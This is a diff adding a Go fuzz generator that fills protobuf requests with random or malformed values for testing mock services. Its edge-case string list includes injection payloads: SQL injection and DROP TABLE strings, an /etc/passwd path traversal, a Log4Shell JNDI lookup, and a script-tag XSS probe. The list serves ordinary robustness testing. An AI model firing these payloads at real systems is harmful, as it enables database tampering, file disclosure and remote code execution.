@@ -0,0 +1,256 @@
+package fuzz
+
+import (
+	"math"
+	"math/rand/v2"
+	"strings"
+
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/reflect/protoreflect"
+)
+
+// maxDepth bounds the nesting of generated messages, e.g. of recursive google.protobuf.Struct values
+const maxDepth = 4
+
+// knownIDs are IDs of users the mock services are seeded with, so generated
+// requests reach past the lookups
+var knownIDs = []string{
+	"00000000-0000-0000-0000-000000000001",
+	"00000000-0000-0000-0000-000000000002",
+	"00000000-0000-0000-0000-000000000003",
+}
+
+// knownEmails are emails of users the mock services are seeded with
+var knownEmails = []string{
+	"admin@example.com",
+	"user@example.com",
+	"test@example.com",
+}
+
+// malformedStrings are edge cases of string fields
+var malformedStrings = []string{
+	"",
+	" ",
+	"not-a-uuid",
+	"00000000-0000-0000-0000-00000000000G",
+	"@",
+	"a@",
+	"@example.com",
+	"user@@example.com",
+	"' OR '1'='1' --",
+	"\"; DROP TABLE users; --",
+	"../../../../etc/passwd",
+	"%00%0a%0d",
+	"\x00\x01\x1b[31m",
+	"${jndi:ldap://example.com/a}",
+	"<script>alert(1)</script>",
+	"name=value&other=1",
+	"null",
+	"-1",
+	"9999999999999999999999",
+	"日本語テキスト",
+	"🙂🙃",
+	"‮evil",
+	strings.Repeat("a", 256),
+	strings.Repeat("x", 64*1024),
+}
+
+// malformedInts are edge cases of integer fields
+var malformedInts = []int64{0, -1, 1, math.MaxInt32, math.MinInt32, math.MaxInt64, math.MinInt64}
+
+// Generator builds requests from message descriptors, either plausible ones
+// or ones with edge cases in their fields. A generator isn't safe for
+// concurrent use.
+type Generator struct {
+	rand *rand.Rand
+	// malformed is the probability of a field getting an edge case value
+	malformed float64
+}
+
+// NewGenerator creates a generator, the same seed generates the same requests
+func NewGenerator(seed uint64, malformed float64) *Generator {
+	return &Generator{
+		rand:      rand.New(rand.NewPCG(seed, seed)),
+		malformed: malformed,
+	}
+}
+
+// Fill sets random fields of msg
+func (g *Generator) Fill(msg proto.Message) {
+	g.fill(msg.ProtoReflect(), 0)
+}
+
+// Mutate returns a copy of an encoded message with bytes flipped, dropped or
+// appended, which the server usually can't decode
+func (g *Generator) Mutate(data []byte) []byte {
+	mutated := append([]byte(nil), data...)
+	switch g.rand.IntN(4) {
+	case 0:
+		for i := 0; i < 1+len(mutated)/8; i++ {
+			if len(mutated) > 0 {
+				mutated[g.rand.IntN(len(mutated))] ^= byte(1 << g.rand.IntN(8))
+			}
+		}
+	case 1:
+		if len(mutated) > 0 {
+			mutated = mutated[:g.rand.IntN(len(mutated))]
+		}
+	case 2:
+		// An unknown field with a length running past the end of the message
+		mutated = append(mutated, 0xfa, 0xff, 0x03, 0xff, 0xff, 0xff, 0x0f)
+	default:
+		garbage := make([]byte, 1+g.rand.IntN(64))
+		for i := range garbage {
+			garbage[i] = byte(g.rand.UintN(256))
+		}
+		mutated = append(mutated, garbage...)
+	}
+	return mutated
+}
+
+// fill sets random fields of a message, each with a probability of a half
+func (g *Generator) fill(m protoreflect.Message, depth int) {
+	fields := m.Descriptor().Fields()
+	for i := 0; i < fields.Len(); i++ {
+		field := fields.Get(i)
+		if g.rand.IntN(2) == 0 {
+			continue
+		}
+		// Only one field of a oneof can be set
+		if oneof := field.ContainingOneof(); oneof != nil && m.WhichOneof(oneof) != nil {
+			continue
+		}
+
+		switch {
+		case field.IsMap():
+			if depth >= maxDepth {
+				continue
+			}
+			entries := m.Mutable(field).Map()
+			for n := g.count(); n > 0; n-- {
+				key := g.scalar(field.MapKey()).MapKey()
+				if field.MapValue().Message() != nil {
+					value := entries.NewValue()
+					g.fill(value.Message(), depth+1)
+					entries.Set(key, value)
+				} else {
+					entries.Set(key, g.scalar(field.MapValue()))
+				}
+			}
+		case field.IsList():
+			if field.Message() != nil && depth >= maxDepth {
+				continue
+			}
+			list := m.Mutable(field).List()
+			for n := g.count(); n > 0; n-- {
+				if field.Message() != nil {
+					element := list.NewElement()
+					g.fill(element.Message(), depth+1)
+					list.Append(element)
+				} else {
+					list.Append(g.scalar(field))
+				}
+			}
+		case field.Message() != nil:
+			if depth >= maxDepth {
+				continue
+			}
+			g.fill(m.Mutable(field).Message(), depth+1)
+		default:
+			m.Set(field, g.scalar(field))
+		}
+	}
+}
+
+// count returns the number of elements of a list or map, occasionally a large one
+func (g *Generator) count() int {
+	if g.edge() {
+		return 100 + g.rand.IntN(1000)
+	}
+	return g.rand.IntN(4)
+}
+
+// edge reports whether the next value should be an edge case
+func (g *Generator) edge() bool {
+	return g.rand.Float64() < g.malformed
+}
+
+// scalar returns a value of a scalar field
+func (g *Generator) scalar(field protoreflect.FieldDescriptor) protoreflect.Value {
+	switch field.Kind() {
+	case protoreflect.BoolKind:
+		return protoreflect.ValueOfBool(g.rand.IntN(2) == 0)
+	case protoreflect.EnumKind:
+		values := field.Enum().Values()
+		if g.edge() || values.Len() == 0 {
+			// Numbers that aren't declared are kept by proto3
+			return protoreflect.ValueOfEnum(protoreflect.EnumNumber(int32(g.integer())))
+		}
+		return protoreflect.ValueOfEnum(values.Get(g.rand.IntN(values.Len())).Number())
+	case protoreflect.Int32Kind, protoreflect.Sint32Kind, protoreflect.Sfixed32Kind:
+		return protoreflect.ValueOfInt32(int32(g.integer()))
+	case protoreflect.Int64Kind, protoreflect.Sint64Kind, protoreflect.Sfixed64Kind:
+		return protoreflect.ValueOfInt64(g.integer())
+	case protoreflect.Uint32Kind, protoreflect.Fixed32Kind:
+		return protoreflect.ValueOfUint32(uint32(g.integer()))
+	case protoreflect.Uint64Kind, protoreflect.Fixed64Kind:
+		return protoreflect.ValueOfUint64(uint64(g.integer()))
+	case protoreflect.FloatKind:
+		return protoreflect.ValueOfFloat32(float32(g.float()))
+	case protoreflect.DoubleKind:
+		return protoreflect.ValueOfFloat64(g.float())
+	case protoreflect.BytesKind:
+		data := make([]byte, g.rand.IntN(64))
+		for i := range data {
+			data[i] = byte(g.rand.UintN(256))
+		}
+		return protoreflect.ValueOfBytes(data)
+	default:
+		return protoreflect.ValueOfString(g.text(field.Name()))
+	}
+}
+
+// integer returns a small integer, such as a page size, or an edge case
+func (g *Generator) integer() int64 {
+	if g.edge() {
+		return malformedInts[g.rand.IntN(len(malformedInts))]
+	}
+	return int64(g.rand.IntN(100))
+}
+
+// float returns a small number or an edge case
+func (g *Generator) float() float64 {
+	if g.edge() {
+		edges := []float64{math.NaN(), math.Inf(1), math.Inf(-1), -1, math.MaxFloat64}
+		return edges[g.rand.IntN(len(edges))]
+	}
+	return g.rand.Float64() * 100
+}
+
+// text returns a plausible value of a string field by its name, or an edge case
+func (g *Generator) text(name protoreflect.Name) string {
+	if g.edge() {
+		return malformedStrings[g.rand.IntN(len(malformedStrings))]
+	}
+
+	lower := strings.ToLower(string(name))
+	switch {
+	case strings.Contains(lower, "email"):
+		return knownEmails[g.rand.IntN(len(knownEmails))]
+	case lower == "id" || strings.HasSuffix(lower, "_id") || strings.HasSuffix(lower, "_ids"):
+		return knownIDs[g.rand.IntN(len(knownIDs))]
+	case strings.Contains(lower, "password"):
+		return "password123"
+	case lower == "paths":
+		// Field mask paths
+		paths := []string{"name", "email", "username", "role", "status"}
+		return paths[g.rand.IntN(len(paths))]
+	default:
+		const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
+		word := make([]byte, 1+g.rand.IntN(12))
+		for i := range word {
+			word[i] = letters[g.rand.IntN(len(letters))]
+		}
+		return string(word)
+	}
+}